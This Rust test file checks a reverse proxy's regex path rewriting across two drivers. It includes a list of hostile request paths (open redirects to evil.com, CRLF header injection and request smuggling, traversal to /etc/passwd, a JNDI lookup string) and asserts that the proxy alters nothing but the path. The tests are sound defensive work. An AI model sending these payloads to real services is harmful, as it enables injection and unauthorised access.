//! `rewrite`: the path that a backend is sent, and that nothing else of the request changes with it.

use super::{Stage, pattern, rule, tells};
use crate::access_log::{logging, objects};
use crate::harness::backend::Backend;
use crate::harness::config::{Config, Driver};
use crate::harness::on_both_drivers;
use crate::harness::proxy::Proxy;
use crate::harness::websocket::{assert_echo, close, connect, handshake};

on_both_drivers![
    the_table_of_rewrites,
    numbers_names_and_dollars,
    what_a_group_took_is_no_template,
    hostile_paths_change_nothing_but_the_path,
    the_query_is_kept,
    a_base_path_comes_before_the_new_path,
    a_path_takes_a_rewrite_without_groups,
    long_paths_are_rewritten_whole,
    a_result_that_is_no_path_is_refused,
    a_refused_result_has_a_line_in_the_access_log,
    a_result_is_neither_normalised_nor_matched_again,
    bodies_pass_as_they_came,
    upgrades_are_rewritten_as_well,
    every_form_of_target_is_rewritten,
    options_asterisk_is_not_rewritten,
];

/// Pattern, rewrite, and what is sent for each path.
type Row<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)]);

/// A site for each row, `r0` and so on, whose one rule it is; asserts what is sent.
fn assert_sent(driver: Driver, table: &[Row<'_>]) {
    let site = |(number, (pattern, rewrite, _)): (usize, &Row<'_>)| {
        format!(
            "[[sites]]\nname = \"r{number}\"\nhosts = [\"r{number}\"]\n\
             rules = [{{ name = \"it\", pattern = '{pattern}', rewrite = '{rewrite}', target = \"{{to}}\" }}]\n"
        )
    };
    let stage = Stage::on_one(driver, &table.iter().enumerate().map(site).collect::<String>());
    for (number, (pattern, rewrite, paths)) in table.iter().enumerate() {
        for (path, sent) in *paths {
            let told = stage.get(&format!("r{number}"), path);
            assert_eq!(told, format!("to {sent}"), "{pattern} -> {rewrite} of {path}");
        }
    }
}

/// One rule that rewrites.
fn rewriting(text: &str, rewrite: &str) -> String {
    pattern("it", text, &format!("rewrite = '{rewrite}'"))
}

fn the_table_of_rewrites(driver: Driver) {
    assert_sent(
        driver,
        &[
            ("^/api(/.*)?$", "/api$1", &[("/api/users", "/api/users"), ("/api", "/api"), ("/api/", "/api/")]),
            ("^/backend(/.*)?$", "$1", &[("/backend/users", "/users"), ("/backend", "/")]),
            ("^/api(/.*)?$", "/v2/api$1", &[("/api/users", "/v2/api/users")]),
            (
                r"^/v(\d+)/api(/.*)?$",
                "/version/$1$2",
                &[("/v1/api/data", "/version/1/data"), ("/v12/api", "/version/12")],
            ),
            ("^/auth(/.*)?$", "$1", &[("/auth//evil.com/x", "//evil.com/x")]),
            ("^/any/(.*)$", "/x/$1", &[("/any/$2", "/x/$2"), ("/any/%0d%0a", "/x/%0d%0a")]),
        ],
    );
}

fn numbers_names_and_dollars(driver: Driver) {
    let ten = "^/(.)(.)(.)(.)(.)(.)(.)(.)(.)(.)$";
    assert_sent(
        driver,
        &[
            ("^/(a+)$", "/$10", &[("/aa", "/aa0")]),
            (ten, "/$10-$1-$11-$100", &[("/abcdefghij", "/j-a-a1-j0")]),
            ("^/(x)$", "/$$1/$$$1$$", &[("/x", "/$1/$x$")]),
            ("^/(?<who>[^/]+)/(?<rest>.*)$", "/${rest}/of/${who}/$1$2", &[("/me/a/b", "/a/b/of/me/mea/b")]),
            ("^/(a)?(b)?$", "/[$1][$2]", &[("/b", "/[][b]"), ("/a", "/[a][]"), ("/", "/[][]")]),
            ("^/x(.*)$", "y$1", &[("/x/z", "/y/z"), ("/x", "/y")]),
            ("^/(.*)$", "$1", &[("/x/y", "/x/y"), ("/", "/"), ("//x", "/x")]),
            ("b(.)", "/$1", &[("/abcbd", "/c")]),
            ("^/(.*)/(.*)$", "/$2/$1", &[("/a/b/c", "/c/a/b")]),
            ("^/(.*?)/(.*)$", "/$2/$1", &[("/a/b/c", "/b/c/a")]),
            (r"/(?:(\d+)|([a-z]+))$", "/n$1/w$2", &[("/x/17", "/n17/w"), ("/17/x", "/n/wx")]),
            ("^/fixed", "/it", &[("/fixed/whatever", "/it")]),
        ],
    );
}

fn what_a_group_took_is_no_template(driver: Driver) {
    let texts =
        ["$1", "$2", "$10", "$$", "$&", "$`", "$'", "${who}", "${path}", "$", "${", "$<who>", "%241", "\\1"];
    let stage = Stage::on_one(driver, &rewriting("^/(?<who>[^/]*)/(.*)$", "/$2/${who}/$2"));
    for text in texts {
        assert_eq!(stage.sent(&format!("/a/{text}")), format!("/{text}/a/{text}"));
        assert_eq!(stage.sent(&format!("/{text}/b")), format!("/b/{text}/b"));
    }
}

/// What people send to reach another host, another request or another field.
const HOSTILE: &[&str] = &[
    "//evil.com",
    "//evil.com/x",
    "/@evil.com:80/",
    "/http://evil.com/",
    "/\\evil.com",
    "/%0d%0aHost:%20evil.com",
    "/%0d%0a%0d%0aGET%20/evil%20HTTP/1.1%0d%0aHost:%20evil.com%0d%0a%0d%0a",
    "/%00",
    "/..%2f..%2fetc/passwd",
    "/%2e%2e%5c%2E%2E%2f",
    "/..;/x",
    "/%3fx=1%23",
    "/%20HTTP/1.1",
    "/${jndi:ldap://evil.com}",
    "/\"<>|^`{}",
    "/$2",
];

fn hostile_paths_change_nothing_but_the_path(driver: Driver) {
    let list = rewriting("^/r(/.*)$", "$1") + &rule("keep", "/k/*", "to", "");
    let stage = Stage::new(driver, &["to", "evil.com"], &list);
    let lines = "X-One: 1\r\nCookie: a=b\r\nX-Two: $1\r\nAccept: */*\r\n";
    let kept = stage.head("/k/x?q=1", lines);
    for (number, hostile) in HOSTILE.iter().enumerate() {
        let target = format!("/r{hostile}?q=1");
        let head = stage.head(&target, lines);
        let line = format!("GET {hostile}?q=1 HTTP/1.1");
        let expected = String::from_utf8(kept.raw.clone()).unwrap().replacen(&kept.start_line, &line, 1);
        assert_eq!(String::from_utf8(head.raw).unwrap(), expected, "number {number}");
    }
    let requests: Vec<_> = stage.backends.iter().map(Backend::requests).collect();
    assert_eq!(requests, [1 + HOSTILE.len(), 0], "one request for each, all at the rule's own target");
    let received: Vec<u8> =
        (0..stage.backends[0].accepts()).flat_map(|number| stage.backends[0].received(number)).collect();
    let heads = received.windows(4).filter(|bytes| bytes == b"\r\n\r\n").count();
    assert_eq!(heads, requests[0], "no head has come but those that were read");
}

fn the_query_is_kept(driver: Driver) {
    let stage = Stage::on_one(driver, &rewriting("^/a/(.*)$", "/b/$1"));
    for query in ["", "?", "?x=1", "?x=$1&y=${z}", "?%zz%", "?a?b", "?/../a/b", "?\"<>\\^`{|}", "?%0d%0a"] {
        assert_eq!(stage.sent(&format!("/a/x{query}")), format!("/b/x{query}"));
    }
}

fn a_base_path_comes_before_the_new_path(driver: Driver) {
    let based = |name: &str, base: &str| {
        let rule = pattern(name, &format!("^/{name}(/.*)?$"), "rewrite = '$1'");
        rule.replace("{to}", &format!("{{to}}{base}"))
    };
    let list = based("none", "") + &based("top", "/") + &based("v", "/v1") + &based("slash", "/v1/");
    let stage = Stage::on_one(driver, &(list + &based("two", "/v1//") + &based("odd", "/a%2F/$1")));
    for (path, sent) in [
        ("/none/x", "/x"),
        ("/none", "/"),
        ("/top/x", "/x"),
        ("/top", "/"),
        ("/v/x", "/v1/x"),
        ("/v", "/v1/"),
        ("/v/", "/v1/"),
        ("/v//evil.com", "/v1//evil.com"),
        ("/v/x?/y", "/v1/x?/y"),
        ("/slash/x", "/v1/x"),
        ("/slash", "/v1/"),
        ("/two/x", "/v1//x"),
        ("/odd/x", "/a%2F/$1/x"),
    ] {
        assert_eq!(stage.sent(path), sent, "{path}");
    }
}

fn a_path_takes_a_rewrite_without_groups(driver: Driver) {
    let list = rule("exact", "/a", "to", "rewrite = '/x'")
        + &rule("prefix", "/b/*", "to", "rewrite = 'y/z'")
        + &rule("suffix", "*.c", "to", "rewrite = '/$$1'")
        + &rule("all", "/*", "to", "rewrite = '/'");
    let stage = Stage::on_one(driver, &list);
    let sent = ["/a?q", "/b/1/2", "/any.c", "/any"].map(|path| stage.sent(path));
    assert_eq!(sent, ["/x?q", "/y/z", "/$1", "/"]);
}

/// As long as a request line may be; and longer than it once it is written several times.
fn long_paths_are_rewritten_whole(driver: Driver) {
    let list = rewriting("^/x/(.*)$", "/$1/$1/$1")
        + &pattern("nine", "^/y/(.*)$", "rewrite = '/$1$1$1$1$1$1$1$1$1'");
    let stage = Stage::on_one(driver, &list);
    let text: String = ('a'..='z').cycle().take(8 * 1024 - "GET /x/ HTTP/1.1".len()).collect();
    assert_eq!(stage.sent(&format!("/x/{text}")), format!("/{text}/{text}/{text}"));
    assert_eq!(stage.sent(&format!("/y/{text}")), "bad_rewrite", "a path has at most 64 KiB");
    assert_eq!(stage.sent(&format!("/x/{text}z")), "uri_too_long");
    assert_eq!(stage.requests(), 1);
}

fn a_result_that_is_no_path_is_refused(driver: Driver) {
    let list = pattern("dot", "^/dot(.*)$", "rewrite = '/a/.$1'")
        + &pattern("middle", "^/middle(.*)$", "rewrite = '/a/.$1/b'")
        + &pattern("climb", "^/climb(.*)$", "rewrite = '/.$1'")
        + &pattern("swap", "^/swap/(.)(.)$", "rewrite = '/%$2$1'")
        + &pattern("cut", "^/cut/(..)", "rewrite = '/$1'");
    let stage = Stage::on_one(driver, &list);
    let mut client = stage.proxy.client();
    for path in [
        "/dot",
        "/dot/x",
        "/dot.",
        "/middle",
        "/climb.",
        "/climb./x",
        "/climb",
        "/swap/e2",
        "/swap/zz",
        "/cut/%41",
    ] {
        let answer = client.get(path);
        answer.assert_error(400, "bad_rewrite");
        assert_eq!(answer.field("connection"), None, "the connection goes on");
    }
    assert_eq!(stage.backends[0].accepts(), 0, "no backend was dialled");
    client
        .ask("POST /dot HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\n\r\n12345")
        .assert_error(400, "bad_rewrite");
    client.ask(handshake("/dot", "")).assert_error(400, "bad_rewrite");
    let sent = ["/dotx", "/middlex", "/climb..", "/swap/14"].map(|path| stage.sent(path));
    assert_eq!(sent, ["/a/.x", "/a/.x/b", "/...", "/%41"]);
    assert_eq!(stage.requests(), 4);
}

fn a_refused_result_has_a_line_in_the_access_log(driver: Driver) {
    let backend = tells("b");
    let text = rewriting("^/dot(.*)$", "/a/.$1").replace("{to}", &backend.url());
    let proxy = logging(Config::new(driver).section(&text), "");
    proxy.client().get("/dot?q").assert_error(400, "bad_rewrite");
    assert_eq!(proxy.client().get("/dotted").text(), "b /a/.ted");
    let lines = objects(&proxy, 2);
    let texts = ["code", "fault", "rule", "target"].map(|name| lines[0][name].as_str().unwrap_or("-"));
    assert_eq!(texts, ["bad_rewrite", "client", "it", "/dot?q"], "{}", lines[0]);
    assert_eq!([&lines[0]["tries"], &lines[1]["tries"]].map(|tries| tries.as_u64()), [Some(0), Some(1)]);
    assert_eq!(lines[1]["target"].as_str(), Some("/dotted"), "the target is the one that came");
}

fn a_result_is_neither_normalised_nor_matched_again(driver: Driver) {
    let list = rewriting("^/a(/.*)$", "/b$1") + &pattern("again", "^/b(/.*)$", "rewrite = '/c$1'");
    let stage = Stage::on_one(driver, &list);
    for (path, sent) in
        [("/a/x", "/b/x"), ("/b/x", "/c/x"), ("/a//%2F/%41", "/b//%2F/%41"), ("/x/../a/y", "/b/y")]
    {
        assert_eq!(stage.sent(path), sent, "{path}");
    }
}

fn bodies_pass_as_they_came(driver: Driver) {
    let backend = Backend::echoes_body();
    let config = Config::new(driver).section(&rewriting("^/a(/.*)$", "$1").replace("{to}", &backend.url()));
    let proxy = Proxy::start(&config);
    let mut client = proxy.client();
    let head = "POST /a/x HTTP/1.1\r\nHost: h\r\n";
    assert_eq!(client.ask(format!("{head}Content-Length: 5\r\n\r\n/a/$1")).text(), "/a/$1");
    let chunks = "Transfer-Encoding: chunked\r\n\r\n5\r\n/a/$1\r\n0\r\n\r\n";
    assert_eq!(client.ask(format!("{head}{chunks}")).text(), "/a/$1");
    assert_eq!([0, 1].map(|number| backend.head(number).start_line), ["POST /x HTTP/1.1"; 2]);
}

fn upgrades_are_rewritten_as_well(driver: Driver) {
    let backend = Backend::echoes_messages();
    let list =
        rewriting(r"^/chat/(\d+)$", "/rooms/$1/socket").replace("{to}", &format!("{}/v1", backend.url()));
    let proxy = Proxy::start(&Config::new(driver).section(&list.replace("http:", "ws:")));
    let mut socket = connect(&proxy.address(), "/chat/7?token=$1");
    assert_echo(&mut socket, "x");
    close(&mut socket);
    assert_eq!(backend.last_head().start_line, "GET /v1/rooms/7/socket?token=$1 HTTP/1.1");
}

fn every_form_of_target_is_rewritten(driver: Driver) {
    let stage = Stage::on_one(driver, &rewriting("^/a(/.*)?$", "$1"));
    let head = stage.head_of("GET http://other:81/a/x?y HTTP/1.1\r\nHost: test\r\n\r\n");
    assert_eq!((head.target(), head.fields.get("host")), ("/x?y", Some("other:81")));
    let head = stage.head_of("GET /a HTTP/1.0\r\n\r\n");
    assert_eq!((&*head.start_line, head.fields.has("host")), ("GET / HTTP/1.1", true));
    let mut client = stage.proxy.client();
    assert_eq!(client.send("HEAD /a/h HTTP/1.1\r\nHost: h\r\n\r\n").response_to("HEAD").status, 200);
    assert_eq!(stage.backends[0].last_head().start_line, "HEAD /h HTTP/1.1");
}

fn options_asterisk_is_not_rewritten(driver: Driver) {
    let backend = tells("b");
    let text = rule("all", "*", "to", "rewrite = '/x'").replace("{to}", &format!("{}/base", backend.url()));
    let proxy = Proxy::start(&Config::new(driver).section(&text));
    assert_eq!(proxy.client().ask("OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n").text(), "b *");
    assert_eq!(proxy.client().ask("OPTIONS / HTTP/1.1\r\nHost: h\r\n\r\n").text(), "b /base/x");
}
